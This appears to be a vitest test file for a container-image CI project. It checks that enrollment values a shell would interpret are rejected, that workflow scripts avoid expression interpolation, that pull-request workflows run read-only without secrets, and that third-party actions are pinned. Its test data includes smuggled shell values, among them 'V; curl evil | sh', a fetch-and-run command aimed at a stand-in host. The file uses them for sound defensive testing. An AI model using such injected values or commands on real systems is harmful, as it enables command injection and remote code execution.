import { readEnrollment } from '@image-factory/core/enrollment';
import { globSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { root } from '../root.ts';
import { rightsOf } from './permissions.ts';

const files = globSync(['.github/workflows/*.yml', 'examples/workflows/*.yml', 'actions/*/action.yml'], { cwd: root }).toSorted();
const read = (file: string): string => readFileSync(join(root, file), 'utf8');

/** The scripts of a workflow or a composite action: what stands behind `run:`, on its line or below it. */
function scriptsIn(text: string): readonly string[] {
  const lines = text.split('\n');
  return lines.flatMap((line, index) => {
    const [, indent = '', own] = /^(\s*)(?:- )?run: (.*)$/.exec(line) ?? [];
    if (own === undefined) return [];
    if (!/^[|>][+-]?$/.test(own)) return [own];
    const below = lines.slice(index + 1);
    const end = below.findIndex((next) => next.trim() !== '' && !next.startsWith(`${indent} `));
    return [below.slice(0, end < 0 ? undefined : end).join('\n')];
  });
}

describe('P12: nothing of an image is part of a workflow', () => {
  it.each([
    { story: 'the file of the version', local: '{dir: local/x, versionFile: "V; curl evil | sh"}' },
    { story: 'a patch', local: '{dir: local/x, patchFiles: ["a.patch; id"]}' },
    { story: 'the folder', local: '{dir: "local/$(id)"}' },
  ])('refuses a name that a shell would read in $story', ({ local }) => {
    const source = '{provider: github, branch: main, dockerfile: Dockerfile}';
    const text = `- {name: app, registry: ghcr.io, repository: acme/app, source: ${source}, local: ${local}}\n`;
    const { value, problems } = readEnrollment([{ path: 'images.yaml', text }]);
    expect([value.images.size, problems.map(({ code }) => code)]).toEqual([0, ['enrollment/invalid-value']]);
  });

  it('scripts are the same bytes whatever they are about', () => {
    const scripts = files.flatMap((file) => scriptsIn(read(file)));
    expect(scripts.length).toBeGreaterThan(3);
    expect(scripts.filter((script) => script.includes('${{'))).toEqual([]);
  });

  it('would find one', () => {
    expect(scriptsIn('steps:\n  - run: |\n      echo ${{ inputs.image }}\n  - uses: x\n')).toEqual(['      echo ${{ inputs.image }}']);
    expect(scriptsIn('    - run: echo ${{ inputs.image }}\n')).toEqual(['echo ${{ inputs.image }}']);
  });
});

describe('P14: what runs on a pull request reads, and holds no secret', () => {
  const onPull = files.filter((file) => /^ {2}pull_request:/m.test(read(file)));

  it.each(onPull)('%s', (file) => {
    const text = read(file);
    expect([...rightsOf(text).values()].flatMap((rights) => Object.entries(rights)).filter(([, right]) => right !== 'read')).toEqual([]);
    expect(text).not.toMatch(/\bsecrets[.:[]/);
  });

  it('there are such workflows, and none runs with the rights of the base', () => {
    expect(onPull.length).toBeGreaterThan(0);
    expect(files.filter((file) => read(file).includes('pull_request_target'))).toEqual([]);
  });
});

it('P15: every action of others is pinned to a commit', () => {
  const used = files.flatMap((file) => [...read(file).matchAll(/^\s*(?:- )?uses: (\S+)/gm)].map(([, name = '']) => name));
  const others = used.filter((name) => !name.startsWith('./') && !name.startsWith('image-factory/image-factory/'));
  expect(others.length).toBeGreaterThan(10);
  expect(others.filter((name) => !/@[0-9a-f]{40}$/.test(name))).toEqual([]);
});
